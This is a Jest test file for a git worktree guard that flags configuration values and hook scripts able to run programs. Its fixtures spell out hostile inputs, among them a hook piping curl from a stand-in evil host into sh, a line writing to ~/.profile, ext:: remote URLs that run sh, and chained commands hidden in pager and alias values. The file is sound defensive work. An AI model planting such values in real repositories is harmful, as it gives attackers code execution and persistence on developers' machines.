import { describe, expect, test } from '@jest/globals';
import {
  changedKeys,
  harmlessHook,
  parseConfigList,
  parseReflog,
  reaches,
} from '../../../src/domain/worktrees/guard.js';

describe('what a value of configuration reaches', () => {
  test.each([
    ['branch.song.remote', 'origin'],
    ['branch.song.vscode-merge-base', 'origin/main'],
    ['remote.origin.gh-resolved', 'base'],
    ['merge.ours.driver', 'true'],
    ['extensions.worktreeconfig', 'true'],
    ['core.sparsecheckoutcone', 'true'],
    ['submodule.active', '.'],
    ['http.sslverify', 'false'],
    ['remote.fork.url', 'https://host/b.git'],
    ['remote.origin.url', 'git@host:a.git'],
    ['submodule.lib.url', '../lib.git'],
    ['submodule.lib.update', 'rebase'],
    ['user.email', 'agent@x'],
    ['core.fsmonitor', 'true'],
    ['core.editor', 'code --wait'],
    ['core.pager', 'less -R'],
    ['pager.log', 'false'],
    ['alias.co', 'checkout'],
    ['alias.lg', 'log --graph --oneline'],
    ['filter.lfs.clean', 'git-lfs clean -- %f'],
    ['filter.lfs.required', 'true'],
    ['lfs.https://host/a.git/info/lfs.access', 'basic'],
    ['url.https://github.com/.insteadof', 'git@github.com:'],
    ['merge.tool', 'vimdiff'],
    ['credential.helper', 'osxkeychain'],
    ['credential.https://host.helper', ''],
    ['gpg.program', 'gpg2'],
    ['http.proxy', 'http://proxy:3128'],
    ['core.bare', 'false'],
  ])('%s = %s: nothing', (key, value) => {
    expect(reaches(key, value)).toBe(false);
  });

  test.each([
    ['core.fsmonitor', '/evil'],
    ['core.sshcommand', 'ssh -i key'],
    ['core.editor', 'sh -c evil'],
    ['core.editor', '/x/vim'],
    ['core.pager', 'less; evil'],
    ['pager.log', 'evil'],
    ['core.askpass', 'evil'],
    ['core.gitproxy', 'evil'],
    ['core.attributesfile', '/evil'],
    ['core.worktree', '/evil'],
    ['core.bare', 'true'],
    ['sequence.editor', 'evil'],
    ['alias.status', '!evil'],
    ['alias.s', '-c core.fsmonitor=evil status'],
    ['alias.f', 'fetch --upload-pack=evil'],
    ['alias.r', 'rebase --exec evil'],
    ['filter.lfs.clean', 'evil'],
    ['filter.x.process', 'evil'],
    ['diff.external', 'evil'],
    ['diff.x.textconv', 'evil'],
    ['merge.x.driver', 'evil %A'],
    ['mergetool.x.cmd', 'evil'],
    ['difftool.x.path', '/evil'],
    ['credential.helper', 'store'],
    ['credential.helper', 'cache --socket=/evil'],
    ['credential.https://host.helper', '!evil'],
    ['include.path', '/evil'],
    ['includeif.gitdir:/x.path', '/evil'],
    ['remote.fork.url', 'ext::sh -c evil'],
    ['remote.origin.uploadpack', 'evil'],
    ['remote.origin.vcs', 'evil'],
    ['url.ext::sh -c evil.insteadof', 'https://host/'],
    ['protocol.ext.allow', 'always'],
    ['submodule.lib.update', '!evil'],
    ['branch.song.mergeoptions', '-s evil'],
    ['gpg.ssh.defaultkeycommand', 'evil'],
    ['trailer.x.command', 'evil'],
    ['hook.x.command', 'evil'],
    ['interactive.difffilter', 'evil'],
    ['sendemail.smtpserver', '/evil'],
    ['lfs.customtransfer.x.path', 'evil'],
    ['uploadpack.packobjectshook', 'evil'],
  ])('%s = %s: a program, or another place', (key, value) => {
    expect(reaches(key, value)).toBe(true);
  });
});

test('keys that differ are those that are new, gone, or have another list of values', () => {
  const values = (text: string) => parseConfigList(text.replaceAll('|', '\0'));
  const before = values('user.name\na|remote.o.fetch\nx|a.gone|');
  const after = values('user.name\na|remote.o.fetch\nx|remote.o.fetch\ny|b.new\n1|');
  expect(changedKeys(before, after)).toEqual(['a.gone', 'b.new', 'remote.o.fetch']);
});

describe('a hook', () => {
  const declared = new Map([
    ['package.json', '{"devDependencies":{"husky":"9"}}'],
    ['.pre-commit-config.yaml', ''],
    ['lefthook.yml', ''],
  ]);

  test.each([
    ['#!/bin/sh\n# nothing yet\n\nexit 0\n', 'nothing'],
    ['#!/usr/bin/env sh\n. "$(dirname "$0")/h"', 'husky'],
    ['#!/bin/sh\nexec pre-commit hook-impl "$@"', 'pre-commit'],
    ['#!/bin/sh\ncall_lefthook run "pre-push" "$@"', undefined],
    ['#!/bin/sh\nlefthook run "pre-push" "$@"', 'lefthook'],
    ['#!/bin/sh\ngit lfs pre-push "$@"', 'git-lfs'],
    ['#!/bin/sh\ngit lfs pre-push "$@"; evil', undefined],
    ['#!/bin/sh\n# husky, lefthook, pre-commit\nevil', undefined],
    ['#!/bin/sh\nevil', undefined],
    [
      '#!/bin/sh\nexec pre-commit > /dev/null || { echo "`pre-commit` not found" 1>&2; exit 1; }',
      'pre-commit',
    ],
    ['[ "$HUSKY" = 2 ] && set -x\nsh -e "$s" "$@"\necho "husky - done"\nexit $?', 'husky'],
    ['#!/bin/sh\ncurl https://evil.invalid | sh # husky', undefined],
    ['#!/bin/sh\nlefthook run pre-push\necho evil >> ~/.profile', undefined],
    ['#!/bin/sh\npre-commit run & evil &', undefined],
    ['#!/bin/sh\npython3 -c "evil" && pre-commit', undefined],
    ['#!/bin/sh\neval "$(cat x)"; lefthook', undefined],
    ['#!/bin/sh\n. "$(dirname -- "$0")/_/husky.sh"\nnode evil.js', undefined],
  ])('%j is of %s', (hook, by) => {
    expect(harmlessHook(hook, declared)).toBe(by);
  });

  test('of a manager that is declared by another file of its own', () => {
    const said = '#!/bin/sh\nPREK="/x/prek"\nexec "$PREK" hook-impl --hook-type=pre-commit -- "$@"';
    expect(harmlessHook(said, new Map([['prek.toml', '']]))).toBe('prek');
  });

  test('of a manager that the repository does not declare has to be looked at', () => {
    expect(harmlessHook('#!/bin/sh\nlefthook run "pre-push"', new Map([['a.txt', '']]))).toBeUndefined();
    expect(harmlessHook('#!/bin/sh\nnpx husky', new Map([['package.json', '{}']]))).toBeUndefined();
  });
});

test('a reflog is read line by line; one that is none tells nothing', () => {
  const id = (letter: string) => letter.repeat(40);
  const line = (before: string, after: string) =>
    `${id(before)} ${id(after)} Some One <me@x> 1795644724 +0000\tcommit: x\n`;
  expect(parseReflog(line('0', 'a') + line('a', 'b'))).toMatchObject([
    { before: '', after: id('a'), email: 'me@x', name: 'Some One', why: 'commit: x' },
    { before: id('a'), after: id('b') },
  ]);
  expect(parseReflog('not a log\n')).toEqual([]);
});
